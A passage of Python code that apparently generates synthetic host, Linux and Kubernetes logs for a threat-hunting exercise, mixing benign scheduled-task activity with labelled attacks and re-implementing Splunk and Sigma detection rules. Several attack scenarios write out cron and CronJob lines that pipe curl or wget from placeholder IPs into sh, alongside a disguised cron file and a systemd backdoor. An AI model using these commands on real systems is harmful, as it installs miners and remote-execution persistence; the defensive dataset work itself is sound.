        emit(dict(c), bad(sc))
        d = task4698(target, t + timedelta(seconds=rng.randrange(3, 9)), duser(src_user), name, x, remote=True,
                     code=4699)
        emit(dict(kind="tmp_task", host=target, time=d["time"], created=c, deleted=d), bad(sc))


def m_atomic_linux():
    host = "hh-lx-jenkins01"
    t = at(3, 16, 2)
    sc = "Unsanctioned Atomic Red Team run on hh-lx-jenkins01 (%s)"
    c1 = 'crontab -l > /tmp/notevil; echo "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil'
    emit(lfile(host, t, "root", "/var/spool/cron/crontabs/root", "/usr/bin/crontab", "crontab /tmp/persistevil",
               "/usr/bin/bash", "bash -c " + c1, action="rename"), bad(sc % "T1053.003-1"))
    t3 = t + timedelta(seconds=rng.randrange(20, 50))
    c3 = "echo \"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\" >> /var/spool/cron/crontabs/persistevil"
    emit(lproc(host, t3, "root", "/usr/bin/bash", "bash -c " + c3, "/opt/microsoft/powershell/7/pwsh",
               "pwsh -NoProfile -Command Invoke-AtomicTest T1053.003 -TestNumbers 3"), bad(sc % "T1053.003-3"))
    emit(lfile(host, later(t3, 3, 20), "root", "/var/spool/cron/crontabs/persistevil", "/usr/bin/bash", "bash -c " + c3,
               "/opt/microsoft/powershell/7/pwsh"), bad(sc % "T1053.003-3"))
    t4 = t3 + timedelta(seconds=rng.randrange(20, 50))
    emit(lproc(host, t4, "root", "/usr/bin/at", "at now + 1 minute", "/usr/bin/bash",
               'bash -c echo "echo Hello from Atomic Red Team" | at now + 1 minute'), bad(sc % "T1053.002-2"))
    emit(lfile(host, later(t4, 10, 50), "root", "/var/spool/cron/atjobs/a0000c01d9f2a1", "/usr/bin/at",
               "at now + 1 minute", "/usr/bin/bash"), bad(sc % "T1053.002-2"))


def m_cron_miner(host, day):
    """WatchDog/TeamTNT-style miner after SSH brute force: user crontab via `crontab -` and a cron.d file."""
    t = at(day, rng.randrange(1, 5), rng.randrange(60))
    url = "http://203.0.113.23/b2f628/cronb.sh"
    sc = "SSH brute-force miner on %s: crontab replaced with curl|wget|sh every 10 minutes" % host
    pipe = "(crontab -l 2>/dev/null; echo \"*/10 * * * * (curl -fsSL %s||wget -q -O- %s)|sh\") | crontab -" % (url, url)
    spool = "/var/spool/cron/root" if HOSTS[host]["family"] == "alma" else "/var/spool/cron/crontabs/root"
    emit(lfile(host, t, "root", spool, "/usr/bin/crontab", "crontab -", "/usr/bin/bash", "bash -c " + pipe,
               action="rename"), bad(sc))
    t2 = t + timedelta(seconds=rng.randrange(3, 15))
    cmd = "bash -c echo '*/30 * * * * root (curl -fsSL %s||wget -q -O- %s)|sh' >> /etc/cron.d/apache" % (url, url)
    sc2 = "SSH brute-force miner on %s: appends curl|sh line to /etc/cron.d/apache" % host
    emit(lproc(host, t2, "root", "/usr/bin/bash", cmd, "/usr/bin/bash", "bash -s"), bad(sc2))
    emit(lfile(host, later(t2, 3, 20), "root", "/etc/cron.d/apache", "/usr/bin/bash", cmd, "/usr/bin/bash", "bash -s"),
         bad(sc2))


def m_fake_salt():
    """Web-app RCE on hh-lx-web02; persistence named like Salt's own cron file, written by a shell."""
    host = "hh-lx-web02"
    t = at(8, 2, 33)
    cmd = ("sh -c echo '*/5 * * * * root curl -fsS http://198.51.100.140/m | bash >/dev/null 2>&1' > "
           "/etc/cron.d/salt-minion-health")
    sc = "hh-lx-web02 RCE: cron file named like Salt (/etc/cron.d/salt-minion-health) runs curl|bash"
    emit(lproc(host, t, "root", "/usr/bin/dash", cmd, "/dev/shm/.x/pwnkit", "/dev/shm/.x/pwnkit"), bad(sc))
    emit(lfile(host, later(t, 3, 20), "root", "/etc/cron.d/salt-minion-health", "/usr/bin/dash", cmd,
               "/dev/shm/.x/pwnkit"), bad(sc))


def m_systemd_backdoor():
    host = "rt-lx-sftp01"
    t = at(12, 3, 5)
    unit = "dbus-org.freedesktop.sync"
    sc = "rt-lx-sftp01: backdoor service+timer copied from /dev/shm and enabled"
    for ext in ("service", "timer"):
        emit(lfile(host, t + timedelta(milliseconds=3 if ext == "timer" else 0), "root",
                   "/etc/systemd/system/%s.%s" % (unit, ext), "/usr/bin/cp",
                   "cp /dev/shm/.s/%s.service /dev/shm/.s/%s.timer /etc/systemd/system/" % (unit, unit),
                   "/usr/bin/bash"), bad(sc))
    emit(lproc(host, t + timedelta(seconds=2), "root", "/usr/bin/systemctl", "systemctl enable --now %s.timer" % unit,
               "/usr/bin/bash", "bash -c systemctl daemon-reload; systemctl enable --now %s.timer" % unit), bad(sc))


def m_k8s():
    ua = "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"
    emit(k8s(at(10, 3, 17), "oidc:qlorenz@%s" % DOMAIN, "198.51.100.203", ua, "kube-system", "kube-dns-cache-sync",
             "*/5 * * * *", "docker.io/library/alpine:3.20",
             ["/bin/sh", "-c", "chroot /host /bin/bash -c 'curl -fsSL http://203.0.113.88/k.sh | bash'"],
             "oidc:k8s-developers\nsystem:authenticated"),
         bad("stolen developer kubeconfig used from 198.51.100.203: hostPath/privileged CronJob in kube-system"))
    emit(k8s(at(11, 4, 2), JENKINS_SA, "10.88.7.31", "kubectl/v1.32.2 (linux/amd64) kubernetes/67a30c0", "tms",
             "tms-cache-warmup", "*/2 * * * *", "docker.io/library/alpine:3.20",
             ["/bin/sh", "-c", "wget -qO- http://203.0.113.88/xm | sh"], JENKINS_GROUPS),
         bad("jenkins-deployer SA token stolen from a compromised build pod creates a miner CronJob tms/tms-cache-warmup"))
    emit(k8s(at(3, 16, 9), "oidc:%s@%s" % (prim("hh-nb-117"), DOMAIN), HOSTS["hh-nb-117"]["ip"],
             "kubectl/v1.32.0 (windows/amd64) kubernetes/70d3cc9", "default", "art", "*/1 * * * *", "busybox",
             ["/bin/sh", "-c", "echo Art"], "oidc:k8s-developers\nsystem:authenticated"),
         bad("Unsanctioned Atomic Red Team run on hh-nb-117 (T1053.007-2)"))


# ----------------------------------------------------------------------------------------------
# Scenario plan (14 days, 2027-03-01 .. 2027-03-14; Patch Tuesday = day 8)
# ----------------------------------------------------------------------------------------------

def weekdays():
    return [d for d in range(NDAYS) if (fw.START_DAY + timedelta(days=d)).weekday() < 5]


def build_events():
    wd = weekdays()

    def spread(hosts, days=None):
        return [(h, rng.choice(days or wd)) for h in hosts]

    def pick(pool, k):
        return sorted(rng.sample(pool, k), key=pool.index)

    lenovo = grp("hh-nb")
    hp = grp("rt-nb")
    dell = grp("hh-pc") + grp("hh-cad")

    # vendor software
    for h, d in spread(pick(WKS, 9)):
        b_chrome_system(h, d)
    for h, d in spread(pick(lenovo + hp, 5)):
        b_chrome_user(h, d)
    for h, d in spread(pick(WKS, 8)):
        b_firefox(h, d)
    for h, d in spread(pick(grp("hh-cad") + grp("hh-nb"), 3)):
        b_dropbox(h, d)
    for h, d in spread(grp("hh-cad")[:3]):
        b_nvidia(h, d)
    for h, d in spread(pick(dell, 2)):
        b_intel_sur(h, d)
    for h, d in spread(pick(lenovo, 3)):
        b_lenovo_su(h, d)
    for h, d in spread(pick(grp("rt-nb") + ["hh-pc-207"], 2)):
        b_teamviewer(h, d)
    for h, d in spread(["hh-cad-04"]):
        b_klite(h, d)
    disp = pick(grp("hh-pc") + grp("rt-nb"), 6)
    for h, d in spread(disp, wd[:4]):
        b_tms_client(h, d)
    newprof = pick(WKS, 4)
    for h, d in spread(newprof, wd[:5]):
        b_onedrive_profile(h, d)
        b_office_telemetry(h, d)
    for h, d in spread(pick(hp + lenovo, 4)):
        b_acrobat(h, d)
    for h, d in spread(pick(dell, 2)):
        b_vendor_guid(h, d)

    # management tools
    for h in pick(WIN_SERVERS[:9], 4):
        b_tanium_reboot(h, PATCH_TUESDAY + 1)
    for h in pick(WKS, 1):
        b_tanium_reboot(h, PATCH_TUESDAY + rng.choice([1, 2]))
    for h, d in spread(pick(WIN_SERVERS, 3), wd[2:6]):
        b_tanium_script(h, d)
    for h, d in spread(pick(hp, 4) + ["rt-edi-01"], wd[1:4]):
        b_bigfix_compliance(h, d)
    for h, d in spread(pick(lenovo, 4), wd[:3]):
        b_intune_drivemap(h, d)
    for h in ("hh-fs-01", "hh-sql-01", "hh-tms-01"):
        for d in rng.sample(range(NDAYS), 2):
            b_job_run(h, d, "veeam")

    # admin work and Group Policy
    for target, adm, kind in (("hh-tms-01", "a-lbrandt", "tmsarchive"), ("hh-tms-02", "a-lbrandt", "tmsarchive"),
                              ("hh-sql-01", "a-jhansen", "sqlerr"), ("hh-sql-02", "a-jhansen", "sqlerr")):
        b_paw_create(target, rng.choice(wd[:6]), adm, kind)
    for target, adm, tn in (("hh-tms-01", "a-lbrandt", "\\Nordhafen\\TMSArchive"),
                            ("hh-sql-01", "a-jhansen", "\\Nordhafen\\SQLErrorLogCycle"),
                            ("hh-sql-02", "a-sokoro", "\\Nordhafen\\SQLErrorLogCycle"),
                            ("rt-edi-01", "a-mvisser", "\\Nordhafen\\EdiFetch")):
        b_paw_run(target, rng.choice(wd), adm, tn)
    for h, adm, tn in (("hh-fs-01", "a-sokoro", "\\Nordhafen\\OldShareReport"),
                       ("rt-fs-01", "a-mvisser", "\\Nordhafen\\Robocopy-Legacy"),
                       ("hh-print-01", "a-jhansen", "\\Nordhafen\\SpoolerRestartWorkaround")):
        b_admin_local(h, rng.choice(wd), adm, "/delete", tn)
    for h, adm in (("hh-tms-01", "a-lbrandt"), ("hh-rds-01", "a-sokoro")):
        b_admin_deferred_reboot(h, rng.choice(wd[6:]), adm)
    for h, adm, tn in (("hh-sql-01", "a-jhansen", "\\Nordhafen\\DbaToolsBackupCheck"),
                       ("hh-veeam-01", "a-sokoro", "\\Nordhafen\\VeeamPostJobNotify"),
                       ("rt-edi-01", "a-mvisser", "\\Nordhafen\\EdiFetch")):
        b_admin_local(h, rng.choice(wd), adm, "/run", tn)
    for h in ("hh-sql-01", "hh-sql-02"):
        b_admin_ps_register(h, rng.choice(wd[:5]), "a-jhansen")
    for d in rng.sample(wd, 6):
        b_job_run("hh-tms-02", d, "bitsadmin")
    b_job_run("hh-print-01", wd[1], "pnputil")
    b_job_run("hh-print-01", wd[6], "pnputil")
    b_gpo_edit_local("hh-dc-01", 1, "a-jhansen", GPO_WKS)
    b_gpo_edit_local("rt-dc-01", 4, "a-mvisser", GPO_SRV)
    b_gpo_edit_local("hh-dc-02", 8, "a-sokoro", GPO_SRV)
    b_gpo_edit_paw("hh-dc-01", 9, "a-jhansen", GPO_WKS)
    for h, d in spread(pick(WKS, 8), [2, 3]):
        b_gpp_printers(h, d)

    # Linux
    deb = {"ubuntu24": [("logrotate_3.21.0-2build1_amd64.deb", "/etc/cron.daily/logrotate"),
                        ("man-db_2.12.0-4build2_amd64.deb", "/etc/cron.daily/man-db"),
                        ("sysstat_12.6.1-2_amd64.deb", "/etc/cron.d/sysstat"),
                        ("php8.3-common_8.3.6-0ubuntu0.24.04.4_all.deb", "/etc/cron.d/php"),
                        ("php8.3-common_8.3.6-0ubuntu0.24.04.4_all.deb", "/usr/lib/systemd/system/phpsessionclean.service")],
           "ubuntu22": [("apt_2.4.14_amd64.deb", "/etc/cron.daily/apt-compat"),
                        ("e2fsprogs_1.46.5-2ubuntu1.2_amd64.deb", "/etc/cron.d/e2scrub_all"),
                        ("logrotate_3.19.0-1ubuntu1.2_amd64.deb", "/etc/cron.daily/logrotate")],
           "debian": [("certbot_2.1.0-4_all.deb", "/etc/cron.d/certbot"),
                      ("certbot_2.1.0-4_all.deb", "/lib/systemd/system/certbot.service"),
                      ("dpkg_1.21.22_amd64.deb", "/etc/cron.daily/dpkg"),
                      ("logrotate_3.21.0-1_amd64.deb", "/etc/cron.daily/logrotate"),
                      ("man-db_2.11.2-2_amd64.deb", "/etc/cron.daily/man-db")]}
    for h in DEB_LINUX:
        opts = deb[HOSTS[h]["family"]]
        for pkg, path in rng.sample(opts, min(3, len(opts))):
            b_dpkg(h, rng.randrange(NDAYS), pkg, path)
    for h in RPM_LINUX:
        for path, pkg in rng.sample([("/etc/cron.d/raid-check", "mdadm"), ("/etc/cron.d/0hourly", "cronie"),
                                     ("/usr/lib/systemd/system/dnf-makecache.service", "dnf"),
                                     ("/usr/lib/systemd/system/sysstat-collect.service", "sysstat")], 2):
            b_dnf(h, rng.choice(wd), path, pkg)
    for h, svc in (("hh-lx-web01", "apache2"), ("hh-lx-web02", "apache2"), ("hh-lx-web03", "apache2"),
                   ("rt-lx-edi01", "rsyslog")):
        for d in rng.sample(range(NDAYS), 3):
            b_logrotate_reload(h, d, svc)
    for h in SALT_HOSTS:
        b_salt_crontab(h, rng.choice(wd[:5]))
    for h in rng.sample(SALT_HOSTS, 4):
        b_salt_cron_file(h, rng.choice(wd), "node-exporter-textfile")
    for h, svc in (("hh-lx-web01", "apache2"), ("hh-lx-web03", "apache2"), ("hh-lx-proxy01", "squid"),
                   ("hh-lx-mon01", "prometheus")):
        b_salt_restart(h, rng.choice(wd), svc)
    for h in rng.sample(SALT_HOSTS, 3):
        b_salt_at_allow(h, wd[7])
    for h in CHEF_HOSTS:
        b_chef_units(h, rng.choice(wd[:4])) if h == "rt-lx-edi01" else None
        b_chef_cron(h, rng.choice(wd))
    for h, adm in (("hh-lx-db01", "a-jhansen"), ("hh-lx-salt01", "a-sokoro"), ("rt-lx-sftp01", "a-mvisser")):
        b_admin_crontab_e(h, rng.choice(wd), adm)
    for h, adm, name in (("hh-lx-db02", "a-jhansen", "pg-dump"), ("hh-lx-mon01", "a-sokoro", "blackbox-probe")):
        b_admin_vim_cron(h, rng.choice(wd), adm, name)
    b_admin_echo_cron("hh-lx-db01", rng.choice(wd), "a-jhansen")
    b_admin_at("rt-lx-sftp01", wd[5], "a-mvisser")
    for h, svc, adm in (("hh-lx-db01", "postgresql", "a-jhansen"), ("hh-lx-db02", "postgresql", "a-jhansen"),
                        ("hh-lx-proxy01", "squid", "a-sokoro"), ("hh-lx-jenkins01", "jenkins", "a-sokoro"),
                        ("rt-lx-sftp01", "ssh", "a-mvisser")):
        b_admin_restart(h, rng.choice(wd), svc, adm)
    for d in range(7, NDAYS):
        b_jenkins_cron("hh-lx-jenkins01", d)

    # Kubernetes
    cj = [("tms", "invoice-export", "0 5 * * 1-5", "harbor.%s/tms/invoice-export:3.4.%%d" % DOMAIN),
          ("edi", "edi-inbound-poll", "*/10 * * * *", "harbor.%s/edi/inbound-poll:1.12.%%d" % DOMAIN),
          ("data", "db-backup-verify", "30 6 * * *", "harbor.%s/data/backup-verify:0.9.%%d" % DOMAIN),
          ("logging", "es-curator", "0 2 * * *", "harbor.%s/platform/curator:5.8.%%d" % DOMAIN),
          ("web", "sitemap-rebuild", "45 3 * * *", "harbor.%s/web/sitemap:2.1.%%d" % DOMAIN)]
    for i, d in enumerate(wd):
        ns, name, sched_, img = cj[i % len(cj)]
        b_k8s(d, ns, name, sched_, img % (i + 2), "jenkins" if i % 3 else "argocd")
    for d, (ns, name) in ((wd[3], ("cattle-monitoring-system", "rancher-backup-check")),
                          (wd[8], ("ingress-nginx", "geoip-refresh"))):
        b_k8s(d, ns, name, "0 4 * * *", "registry.rancher.com/rancher/%s:1.0.%d" % (name, d), "fleet")

    # attacks
    m_atomic_windows()
    m_at_interactive()
    m_conti_remote()
    m_paw_hijack()
    for h, d in (("rt-nb-305", 4), ("hh-pc-202", 5)):
        m_icedid(h, d)
    m_fake_updater("hh-nb-109", 5)
    m_fake_adobe("rt-nb-308", 6)
    m_empire()
    m_tarrask()
    m_gpo_ransom()
    m_atexec("a-mvisser")
    m_atomic_linux()
    for h, d in (("rt-lx-sftp01", 7), ("hh-lx-proxy01", 7)):
        m_cron_miner(h, d)
    m_fake_salt()
    m_systemd_backdoor()
    m_k8s()


# ----------------------------------------------------------------------------------------------
# Rules this SOC enables
# ----------------------------------------------------------------------------------------------

# ESCU correlation searches not enabled at the first set's SOC: (ESCU id, risk score, carried note ids)
fw.SPLUNK_RULES.update({
    "Scheduled Task Deleted Or Created via CMD": ("d5af132c-7c17-439c-9d31-13d55340f36c", 56, [41]),
    "Linux Possible Cronjob Modification With Editor": ("dcc89bde-5f24-11ec-87ca-acde48001122", 20, [5]),
    "Linux At Allow Config File Creation": ("977b3082-5f3d-11ec-b954-acde48001122", 25, [3]),
})
SPLUNK_ENABLED = {
    "Windows Schtasks Create Run As System", "Windows Scheduled Task with Highest Privileges",
    "Schtasks scheduling job on remote system", "Scheduled Task Initiation on Remote Endpoint",
    "Schtasks Run Task On Demand", "Scheduled Task Deleted Or Created via CMD",
    "Suspicious Scheduled Task from Public Directory", "Schtasks used for forcing a reboot",
    "WinEvent Scheduled Task Created to Spawn Shell", "Windows Scheduled Task Created Via XML",
    "Schedule Task with HTTP Command Arguments", "Schedule Task with Rundll32 Command Trigger",
    "Windows Hidden Schedule Task Settings", "Svchost LOLBAS Execution Process Spawn",
    "Linux Add Files In Known Crontab Directories", "Linux Possible Append Cronjob Entry on Existing Cronjob File",
    "Linux Edit Cron Table Parameter", "Linux Possible Cronjob Modification With Editor",
    "Linux At Allow Config File Creation", "Linux Service File Created In Systemd Directory",
    "Linux Service Started Or Enabled", "Linux Service Restarted", "Linux At Application Execution",
    "Kubernetes Cron Job Creation",
}
SPLUNK_KINDS_SKIPPED = ("tmp_task", "script_task", "5145", "wfile", "4702")


def splunk_match(e):
    if e["kind"] in SPLUNK_KINDS_SKIPPED:
        return []
    out = [r for r in fw.splunk_match(e) if r in SPLUNK_ENABLED]
    k = e["kind"]
    if k == "proc" and e["name"].lower() == "schtasks.exe":
        p = e["cmdline"].lower()
        if "delete" in p or "create" in p:  # the ESCU search: process=*delete* OR process=*create*
            out.append("Scheduled Task Deleted Or Created via CMD")
    elif k == "lproc":
        p = e["cmdline"]
        if (e["name"] in ("nano", "vim.basic") and any(x in p for x in ("nano ", "vi ", "vim "))
                and any(x in p for x in ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab"))):
            out.append("Linux Possible Cronjob Modification With Editor")
    elif k == "lfile":
        if e["path"].endswith(("/etc/at.allow", "/etc/at.deny")):
            out.append("Linux At Allow Config File Creation")
    return out


def elastic_match(e):
    return fw.elastic_match(e)


# SigmaHQ rules (seed-era logic, /work/shared/research/lofp/rules_t1053.json) hunted with Chainsaw:
# title -> (id, level, status, falsepositives as written, tags, logsource, carried note ids)
_PC = {"category": "process_creation", "product": "windows"}
SIGMA_RULES = {
    "Scheduled Task Creation Via Schtasks.EXE": (
        "92626ddd-662c-49e3-ac59-f6535f12d189", "low", "test", ["Administrative activity", "Software installation"],
        ["attack.execution", "attack.persistence", "attack.privilege-escalation", "attack.t1053.005", "attack.s0111"],
        _PC, [1, 33]),
    "Suspicious Scheduled Task Creation Involving Temp Folder": (
        "39019a4e-317f-4ce3-ae63-309a8c6b53c5", "high", "test", ["Administrative activity", "Software installation"],
        ["attack.execution", "attack.persistence", "attack.t1053.005"], _PC, [1, 33]),
    "Suspicious Schtasks From Env Var Folder": (
        "81325ce1-be01-4250-944f-b4789644556f", "medium", "experimental",
        ["Benign scheduled tasks creations or executions that happen often during software installations",
         "Software that uses the AppData folder and scheduled tasks to update the software in the AppData folders"],
        ["attack.execution", "attack.t1053.005"], _PC, [11, 35]),
    "Suspicious Scheduled Task Name As GUID": (
        "ff2fff64-4cd6-4a2b-ba7d-e28a30bbe66b", "medium", "test", ["Legitimate software naming their tasks as GUIDs"],
        ["attack.execution", "attack.t1053.005"], _PC, [31]),
    "Uncommon One Time Only Scheduled Task At 00:00": (
        "970823b7-273b-460a-8afc-3a6811998529", "high", "test", ["Software installation"],
        ["attack.execution", "attack.persistence", "attack.privilege-escalation", "attack.t1053.005"], _PC, [33]),
    "Suspicious Schtasks Schedule Types": (
        "24c8392b-aa3c-46b7-a545-43f71657fe98", "high", "test",
        ["Legitimate processes that run at logon. Filter according to your environment"],
        ["attack.execution", "attack.t1053.005"], _PC, [27]),
    "Suspicious Schtasks Schedule Type With High Privileges": (
        "7a02e22e-b885-4404-b38b-1ddc7e65258a", "medium", "test",
        ["Some installers were seen using this method of creation unfortunately. Filter them in your environment"],
        ["attack.execution", "attack.t1053.005"], _PC, [36]),
    "Suspicious Command Patterns In Scheduled Task Creation": (
        "f2c64357-b1d2-41b7-849f-34d2682c0fad", "high", "experimental",
        ["Software installers that run from temporary folders and also install scheduled tasks are expected to "
         "generate some false positives"], ["attack.execution", "attack.t1053.005"], _PC, [34]),
    "Scheduled Task Executing Encoded Payload from Registry": (
        "c4eeeeae-89f4-43a7-8b48-8d1bdfa66c78", "high", "test", ["Unlikely"],
        ["attack.execution", "attack.persistence", "attack.t1053.005", "attack.t1059.001"], _PC, [39]),
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": (
        "56c217c3-2de2-479b-990f-5c109ba8458f", "high", "test", ["Unlikely"],
        ["attack.execution", "attack.persistence", "attack.privilege-escalation", "attack.s0111", "attack.g0022",
         "attack.g0060", "attack.t1053.005", "attack.t1059.001"], _PC, [39]),
    "Interactive AT Job": (
        "60fc936d-2eb0-4543-8a13-911c750a1dfc", "high", "test", ["Unlikely (at.exe deprecated as of Windows 8)"],
        ["attack.privilege-escalation", "attack.t1053.002"], _PC, [40]),
    "Scheduled Task Executed Uncommon LOLBIN": (
        "f0767f15-0fb3-44b9-851e-e8d9a6d0005d", "medium", "test",
        ["False positives may occur with some of the selected binaries if you have tasks using them (which could be "
         "very common in your environment). Exclude all the specific trusted tasks before using this rule"],
        ["attack.persistence", "attack.t1053.005"], {"product": "windows", "service": "taskscheduler"}, [17]),
    "Persistence and Execution at Scale via GPO Scheduled Task": (
        "a8f29a7b-b137-4446-80a0-b804272f3da2", "high", "test",
        ["If the source IP is not localhost then it's super suspicious, better to monitor both local and remote "
         "changes to GPO scheduledtasks"], ["attack.persistence", "attack.lateral-movement", "attack.t1053.005"],
        {"product": "windows", "service": "security"}, [20]),
}

ENV_FOLDERS = (":\\perflogs", ":\\windows\\temp", "\\appdata\\local\\", "\\appdata\\roaming\\", "\\users\\public",
               "%appdata%", "%public%")
ENV_FOLDERS_SCHEDULE = (":\\perflogs", ":\\windows\\temp", "\\users\\public", "%public%")
UNCOMMON = (" -decode ", " -enc ", " -w hidden ", " bypass ", " iex", ".downloaddata", ".downloadfile",
            ".downloadstring", "/c start /min ", "frombase64string", "mshta http", "mshta.exe http")
ANOMALY_DIRS = (":\\programdata\\", ":\\temp\\", ":\\tmp\\", ":\\users\\public\\", ":\\windows\\temp\\", "\\appdata\\",
                "%appdata%", "%temp%", "%tmp%")


def sysmon_user(u):
    return "NT AUTHORITY\\SYSTEM" if u[2] == "S-1-5-18" else "%s\\%s" % (u[0], u[1])


def env_folder_filtered(c, pc):
    return ("update_task.xml" in c or "/create /tn tvinstallrestore /tr" in c or "unattended.ini" in pc
            or all(s in c for s in ('/create /xml "c:\\users\\', "\\appdata\\local\\temp\\.cr.",
                                    "avira_security_installation.xml"))
            or all(s in c for s in ("/create /f /tn", "/xml ", "\\appdata\\local\\temp\\is-", "avira_"))
            or all(s in c for s in ("\\appdata\\local\\temp\\", '/create /tn "klcp_update" /xml ',
                                    "\\klcp_update_task.xml")))


def sigma_match(e):
    """Case-insensitive re-implementation of the SigmaHQ selections and filters."""
    k, out = e["kind"], []
    if k == "5145":
        if e["rel"].lower().endswith("scheduledtasks.xml"):
            out.append("Persistence and Execution at Scale via GPO Scheduled Task")
        return out
    if k != "proc":
        return out
    n, c, pc = e["name"].lower(), e["cmdline"].lower(), e["parent_cmdline"].lower()
    if e.get("task_name") and n in ("calc.exe", "cscript.exe", "mshta.exe", "mspaint.exe", "notepad.exe",
                                    "regsvr32.exe", "wscript.exe"):
        out.append("Scheduled Task Executed Uncommon LOLBIN")
    if n == "at.exe" and "interactive" in c:
        out.append("Interactive AT Job")
    if n != "schtasks.exe":
        return out
    create = " /create " in c
    user = sysmon_user(e["user"]).lower()
    if create and "authori" not in user and "autori" not in user:
        out.append("Scheduled Task Creation Via Schtasks.EXE")
    if create and " /sc once " in c and "\\temp\\" in c:
        out.append("Suspicious Scheduled Task Creation Involving Temp Folder")
    sel1 = create and any(f in c for f in ENV_FOLDERS)
    sel2 = pc.endswith("\\svchost.exe -k netsvcs -p -s schedule") and any(f in c for f in ENV_FOLDERS_SCHEDULE)
    if (sel1 or sel2) and not env_folder_filtered(c, pc):
        out.append("Suspicious Schtasks From Env Var Folder")
    if ("/create " in c and any(s in c for s in ('/tn "{', "/tn '{", "/tn {"))
            and any(s in c for s in ('}"', "}'", "} "))):
        out.append("Suspicious Scheduled Task Name As GUID")
    if (any(s in c for s in ("wscript", "vbscript", "cscript", "wmic ", "wmic.exe", "regsvr32.exe", "powershell",
                             "\\appdata\\")) and "once" in c and "00:00" in c):
        out.append("Uncommon One Time Only Scheduled Task At 00:00")
    when = any(s in c for s in (" onlogon ", " onstart ", " once ", " onidle "))
    privs = any(s in c for s in ("nt aut", " system", "highest"))
    if when and not privs:
        out.append("Suspicious Schtasks Schedule Types")
    if when and privs:
        out.append("Suspicious Schtasks Schedule Type With High Privileges")
    if "/create " in c and (
            (any(s in c for s in ("/sc minute ", "/ru system ")) and
             any(s in c for s in ("cmd /c ", "cmd /k ", "cmd /r ", "cmd.exe /c ", "cmd.exe /k ", "cmd.exe /r ")))
            or any(s in c for s in UNCOMMON)
            or (any(s in c for s in ANOMALY_DIRS) and any(s in c for s in ("cscript", "curl", "wscript")))):
        out.append("Suspicious Command Patterns In Scheduled Task Creation")
    if ("/create" in c and any(s in c for s in ("frombase64string", "encodedcommand"))
            and any(s in c for s in ("get-itemproperty", " gp ")) and any(s in c for s in ("hkcu:", "hklm:", "registry::",
                                                                                          "hkey_"))):
        out.append("Scheduled Task Executing Encoded Payload from Registry")
    if (e["parent_name"].lower() in ("powershell.exe", "pwsh.exe") and all(
            s in c for s in ("/create", "powershell.exe -noni", "/tn updater /tr"))
            and any(s in c for s in ("/sc onlogon", "/sc daily /st", "/sc onidle", "/sc hourly"))):
        out.append("HackTool - Default PowerSploit/Empire Scheduled Task Creation")
    return out


def fired(e):
    return splunk_match(e) + elastic_match(e) + sigma_match(e)


def resolve_notes():
    """Fill each benign event's note list per fired rule from the rubric; check the ids against the rule."""
    carried = {r: v[2] for r, v in fw.SPLUNK_RULES.items()}
    carried.update({r: v["notes"] for r, v in fw.ELASTIC_RULES.items()})
    carried.update({r: v[6] for r, v in SIGMA_RULES.items()})
    for e in fw.EVENTS:
        st = e["story"]
        rules = fired(e)
        if st["verdict"] != "benign":
            continue
        if not rules:
            raise SystemExit("benign event fires nothing: %r" % st["scenario"])
        for r in st["notes"]:
            if r not in carried:
                raise SystemExit("unknown rule %r in story %r" % (r, st["scenario"]))
        for r in rules:
            notes = st["notes"].setdefault(r, note_fit(r, e))
            wrong = [x for x in notes if x not in carried[r]]
            if wrong:
                raise SystemExit("story %r: rule %r does not carry notes %r" % (st["scenario"], r, wrong))


# ----------------------------------------------------------------------------------------------
# Chainsaw `hunt --jsonl` output (FORMATS.md 5.2): one detection per line, evtx-crate JSON documents
# ----------------------------------------------------------------------------------------------

CASE_DIR = "/cases/TH-2027-011"
SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
TS_GUID = "DE7B24EA-73C8-4A09-985D-5BDADCFA9017"
SEC_GUID = "54849625-5478-4994-A5BA-3E3B0328C30D"
SIGMA_AUTHORS = {
    "Scheduled Task Creation Via Schtasks.EXE": ["Florian Roth (Nextron Systems)"],
    "Interactive AT Job": ["E.M. Anhaus (originally from Atomic Blue Detections, Endgame)", "oscd.community"],
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": ["Markus Neis", "@Karneades"],
    "Persistence and Execution at Scale via GPO Scheduled Task": ["Samir Bousseaden"],
}
VERSIONS = {"schtasks.exe": ("10.0.22621.1 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool"),
            "at.exe": ("6.3.9600.16384 (winblue_rtm.130821-1623)", "Schedule service command line interface")}


def chainsaw_time(dt):
    return dt.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")


def evtx_time(dt):
    return dt.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def system_block(e, provider, guid, event_id, version, task, opcode, keywords, channel, exec_pid, user_id, level=4):
    s = {"Provider_attributes": {"Name": provider, "Guid": guid}, "EventID": event_id, "Version": version,
         "Level": level, "Task": task, "Opcode": opcode, "Keywords": keywords,
         "TimeCreated_attributes": {"SystemTime": evtx_time(e["time"])}, "EventRecordID": 0, "Correlation": None,
         "Execution_attributes": {"ProcessID": exec_pid, "ThreadID": rng.randrange(1000, 12000)}, "Channel": channel,
         "Computer": fqdn(e["host"]).upper().split(".")[0] + "." + DOMAIN}
    if user_id:
        s["Security_attributes"] = {"UserID": user_id}
    else:
        s["Security"] = None
    return s


def sysmon1_data(e):
    name = e["name"].lower()
    ver, desc = VERSIONS.get(name, ("10.0.22621.1", ""))
    integ = {"system": "System", "high": "High", "medium": "Medium"}[e["integrity"]]
    h = det_hex("img", e["image"].lower(), n=64).upper()
    user = sysmon_user(e["user"])
    return {"RuleName": "-", "UtcTime": e["time"].astimezone(timezone.utc).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": det_uuid("pguid", e["seq"]), "ProcessId": e["pid"], "Image": e["image"],
            "FileVersion": ver, "Description": desc, "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation", "OriginalFileName": e["original"], "CommandLine": e["cmdline"],
            "CurrentDirectory": e.get("cwd") or "C:\\Windows\\system32\\", "User": user,
            "LogonGuid": det_uuid("lguid", e["host"], user), "LogonId": "0x3e7" if "SYSTEM" in user else
            "0x%x" % (0x100000 + int(det_hex("lid", e["host"], user, n=5), 16)),
